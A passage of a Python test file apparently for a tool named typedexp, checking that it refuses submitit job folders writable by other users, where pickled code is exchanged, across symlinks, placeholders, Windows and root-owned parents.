    link = tmp_path / "link"
    link.symlink_to(theirs)
    assert f"{link} belongs to another user" in folder_refusal(link)


def test_a_submitit_sweep_into_a_folder_others_can_write_is_one_line_before_any_job(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    done = run_main(["-m", "hydra/launcher=submitit_local", f"hydra.sweep.dir={shared}/sweep", *QUICK, "seed=1,2"], tmp_path)
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr == (
        f"typedexp: error: {SUBMITIT_FOLDER}={shared}/sweep/.submitit/%j: refused, {shared} is writable by other "
        "users; submitit exchanges pickled code with each job there; keep hydra.sweep.dir in a folder only you "
        "can write to, or type hydra.launcher.submitit_folder=<a folder of yours>/%j\n"
    )
    assert not (shared / "sweep").exists()


def test_only_the_path_before_the_first_placeholder_is_checked(tmp_path: Path) -> None:
    placeholder = tmp_path / "%j"  # a real folder with submitit's placeholder for a name: never used
    placeholder.mkdir()
    placeholder.chmod(0o777)
    assert folder_refusal(tmp_path) == "passes"  # checks tmp_path/.submitit/, not tmp_path/%j/...
    check_pickle_folder(SUBMITIT_FOLDER, f"{tmp_path}/%j/x/%t")  # passes: no error


def test_a_folder_named_by_placeholders_only_is_the_working_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    monkeypatch.chdir(shared)
    with pytest.raises(ConfigError, match=f"^{SUBMITIT_FOLDER}=%j: refused, {shared} is writable by other users"):
        check_pickle_folder(SUBMITIT_FOLDER, "%j")
    monkeypatch.chdir(tmp_path)
    check_pickle_folder(SUBMITIT_FOLDER, "%j")  # passes: a folder of yours


def test_without_user_ids_windows_there_is_no_shared_folder_to_refuse(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    monkeypatch.delattr(os, "getuid")  # as on Windows, where neither Slurm nor shared submitit folders exist
    check_pickle_folder(SUBMITIT_FOLDER, f"{shared}/%j")  # passes: no error


def test_only_submitit_s_own_folder_field_is_checked_as_a_folder(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    unsafe = f"{shared}/x/%j"
    typed = {"submitit_folder": unsafe, "comment": unsafe}
    check_launcher_leaf("comment", unsafe, unsafe, target=SUBMITIT_SLURM, typed=typed, defaults=())  # plain text
    check_launcher_leaf("submitit_folder", unsafe, unsafe, target=JOBLIB, typed=typed, defaults=())  # not submitit's
    with pytest.raises(ConfigError, match=f"{shared} is writable by other users"):
        check_launcher_leaf("submitit_folder", unsafe, unsafe, target=SUBMITIT_LOCAL, typed=typed, defaults=())


@pytest.mark.skipif(not hasattr(os, "chown") or os.geteuid() != 0, reason="giving a folder to another user needs root")
def test_folders_of_root_above_a_folder_of_yours_pass_for_any_user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mine = tmp_path / "user-4242"
    mine.mkdir(mode=0o755)
    os.chown(mine, 4242, 4242)
    monkeypatch.setattr(os, "getuid", lambda: 4242)  # as that user: tmp_path and / belong to root
    assert folder_refusal(mine) == "passes"
